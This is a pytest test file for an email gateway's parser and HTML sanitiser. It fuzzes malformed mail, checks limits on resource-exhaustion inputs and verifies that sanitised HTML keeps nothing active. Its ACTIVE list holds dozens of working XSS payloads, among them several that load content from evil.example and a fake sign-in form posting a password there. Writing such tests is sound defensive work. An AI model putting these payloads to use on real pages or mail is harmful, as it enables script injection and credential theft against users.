"""Mails that were made to do harm, or that are noise: none makes the reader raise, and nothing of them acts."""

from __future__ import annotations

import tempfile
from html.parser import HTMLParser
from pathlib import Path

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sluiceway_gateways.email import _html
from sluiceway_gateways.email._mail import Mail
from sluiceway_gateways.email._reading import read

from .test_email_corpus import NAMES, SAMPLES

HEADER = b"From: a@customer.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n"


def read_bytes(raw: bytes, **options: str) -> Mail:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "mail")
        path.write_bytes(raw)
        files = Path(folder, "files")
        files.mkdir()
        return read(str(path), str(files), **options)


def check(mail: Mail) -> None:
    """It crosses a process border as JSON unharmed, and no text has a NUL."""
    encoded = msgspec.json.encode(mail)
    assert msgspec.json.decode(encoded, type=Mail) == mail
    assert b"\\u0000" not in encoded


class TestNoise:
    @given(st.binary(max_size=2000))
    @settings(deadline=None)
    def test_any_bytes_are_a_mail(self, raw: bytes) -> None:
        check(read_bytes(raw, authserv_id="mx.shop.example"))

    @given(st.sampled_from(NAMES), st.data())
    @settings(deadline=None, max_examples=300)
    def test_a_damaged_mail_is_a_mail(self, name: str, data: st.DataObject) -> None:
        raw = (SAMPLES / f"{name}.eml").read_bytes()[:20_000]
        at = data.draw(st.integers(0, len(raw)))
        length = data.draw(st.integers(0, 50))
        check(read_bytes(raw[:at] + data.draw(st.binary(max_size=30)) + raw[at + length :]))

    @given(st.sampled_from(NAMES), st.sampled_from(NAMES), st.integers(0, 3000), st.integers(0, 3000))
    @settings(deadline=None)
    def test_two_mails_run_into_each_other_are_a_mail(self, one: str, other: str, end: int, start: int) -> None:
        first, second = ((SAMPLES / f"{name}.eml").read_bytes() for name in (one, other))
        check(read_bytes(first[:end] + second[start : start + 20_000]))

    @pytest.mark.parametrize(
        "field", ["From", "Subject", "Date", "Content-Type", "Authentication-Results", "References"]
    )
    @given(value=st.text("=?utf-8bq'\"<>()@,;:.\\*%0 \t\xe9", max_size=300))
    @settings(deadline=None, max_examples=60)
    def test_a_field_may_have_any_value(self, field: str, value: str) -> None:
        check(read_bytes(f"{field}: {value}\r\n\r\nHi".encode(), authserv_id="mx"))


class TestBombs:
    def test_parts_in_parts_are_followed_to_a_depth_and_the_rest_is_a_file(self) -> None:
        parts = b"".join(
            b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (level, level) for level in range(3000)
        )
        mail = read_bytes(HEADER + parts + b"\r\ndeep\r\n")
        assert mail.defects == ("nested_too_deep",)
        assert len(mail.attachments) == 1

    def test_of_very_many_parts_the_rest_stays_in_the_last(self) -> None:
        raw = HEADER + b"Content-Type: multipart/mixed; boundary=q\r\n\r\n" + b"--q\r\n\r\nx\r\n" * 3000 + b"end"
        mail = read_bytes(raw)
        assert mail.defects == ("too_many_parts",)
        assert mail.text.endswith("end")

    def test_of_very_many_encoded_words_the_first_are_decoded(self) -> None:
        words = b"\r\n ".join([b"=?utf-8?q?w=C3=A4?="] * 20_000)
        mail = read_bytes(
            b"Subject: " + words + b"\r\nTo: " + b"=?utf-8?q?a?= <a@b.example>, " * 20_000 + b"\r\n\r\nHi"
        )
        assert mail.subject.startswith("wäwä")
        assert len(mail.to) == 500
        assert mail.defects == ("subject_cut", "addresses_cut")

    def test_of_very_many_lines_that_look_like_delimiters_the_first_are_looked_at(self) -> None:
        raw = (
            HEADER
            + b"Content-Type: multipart/mixed; boundary=q\r\n\r\n--q\r\n\r\n"
            + b"--x\n" * 200_001
            + b"--q\r\n\r\nb"
        )
        mail = read_bytes(raw)
        assert mail.defects == ("too_many_parts",)
        assert mail.text.endswith("b")

    def test_a_header_without_an_end_is_cut(self) -> None:
        mail = read_bytes(b"Subject: first\r\n" + b"X: y\r\n" * 300_000 + b"\r\nHi")
        assert (mail.subject, mail.text, mail.defects) == ("first", "Hi", ("header_cut",))
        folded = read_bytes(b"Subject: first\r\n" + b" more\r\n" * 300_000)
        assert folded.subject.startswith("first more more")

    def test_a_text_is_cut_and_says_so(self) -> None:
        mail = read_bytes(HEADER + b"\r\n" + b"words\r\n" * 400_000)
        assert mail.defects == ("text_cut",)
        assert 800_000 < len(mail.text) <= 1 << 20

    def test_html_that_takes_the_sanitiser_too_long_is_cut(self) -> None:
        assert len(_html.bounded("&" * 1_000_000)) < 50_000
        assert len(_html.bounded("<div>" * 100_000)) < 100_000
        assert len(_html.bounded("&<br>x" * 100_000)) > 500_000
        assert len(_html.bounded("& " * 60_000 + "<p>never</p>")) < 600_000
        assert read_bytes(HEADER + b"Content-Type: text/html\r\n\r\n" + b"&" * 500_000).defects == ("html_cut",)

    def test_html_whose_elements_are_not_ended_is_not_deep(self) -> None:
        source = "<ul>" + "<li>item<p>words" * 10_000
        assert _html.bounded(source) == source


# Typed from what the OWASP sheet and the HTML standard describe; each must leave nothing that acts
ACTIVE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src='javascript:alert(1)'>",
    "<img src=' \x01javascript:alert(1)'>",
    "<img srcset='https://evil.example/p.gif 1x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&#58;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://x.example' onclick=alert(1) target=_top>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{background:url(https://evil.example/p.gif)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background-image:url(https://evil.example/p.gif)'>x</div>",
    "<div style='color:red;width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;z-index:9'>x</div>",
    "<div style='background-color:\\75rl(https://evil.example)'>x</div>",
    "<table background='https://evil.example/p.gif'><tr><td background='https://evil.example/p.gif'>x</table>",
    "<body onload=alert(1) background='https://evil.example/p.gif'>x</body>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<isindex action='javascript:alert(1)'>",
    "<input autofocus onfocus=alert(1)>",
    "<video src='https://evil.example/v.mp4' onerror=alert(1)></video>",
    "<audio autoplay src='https://evil.example/a.mp3'></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<p id=x name=y class=z data-x=1>x</p>",
    "<a name=x id=location>x</a>",
    "<b \x00onclick=alert(1)>x</b>",
    "<img\x0bsrc=x\x0conerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<html xmlns:o='urn:x'><o:p onclick=alert(1)>x</o:p></html>",
    "<img src=https://track.example/open.gif width=1 height=1>",
    "<img src=cid:x usemap='#m'><map name=m><area href='javascript:alert(1)'></map>",
]
ALLOWED = {
    *("href", "rel", "src", "alt", "title", "dir", "lang", "width", "height", "style", "align", "valign", "colspan"),
    *("rowspan", "bgcolor", "border", "cellpadding", "cellspacing", "color", "face", "size", "span", "start", "type"),
}


class Acts(HTMLParser):
    """Collects what a browser would run, load or send in HTML; it shares no code with what is tested."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _html._TAGS or tag in {
            "script",
            "style",
            "svg",
            "math",
            "iframe",
            "form",
            "input",
            "meta",
            "link",
        }:
            self.found.append(tag)
        for name, value in attrs:
            address = (value or "").strip().lower()
            if name not in ALLOWED or name.startswith("on"):
                self.found.append(name)
            if name == "href" and not address.startswith(("http://", "https://", "mailto:", "cid:")):
                self.found.append(f"{name}={address}")
            if name == "src" and not address.startswith("cid:"):
                self.found.append(f"{name}={address}")
            if name == "style" and any(word in address for word in ("url", "expression", "position", "\\", "import")):
                self.found.append(f"{name}={address}")


@pytest.mark.parametrize("source", ACTIVE)
def test_nothing_in_the_html_acts(source: str) -> None:
    mail = read_bytes(HEADER + b"Content-Type: text/html; charset=utf-8\r\n\r\n<p>before</p>" + source.encode())
    acts = Acts()
    acts.feed(mail.html or "")
    acts.close()
    assert acts.found == []
    assert mail.html is not None
    assert "before" in mail.html


@given(
    st.lists(st.sampled_from([*ACTIVE, "<", ">", "'", '"', "</", "<!--", "-->", "&", "<p ", "=x "]), max_size=6).map(
        "".join
    )
)
@settings(deadline=None, max_examples=200)
def test_nothing_acts_whatever_it_is_put_together_with(source: str) -> None:
    acts = Acts()
    acts.feed(_html.cleaned(source))
    acts.close()
    assert acts.found == []
    _html.to_text(_html.cleaned(source))
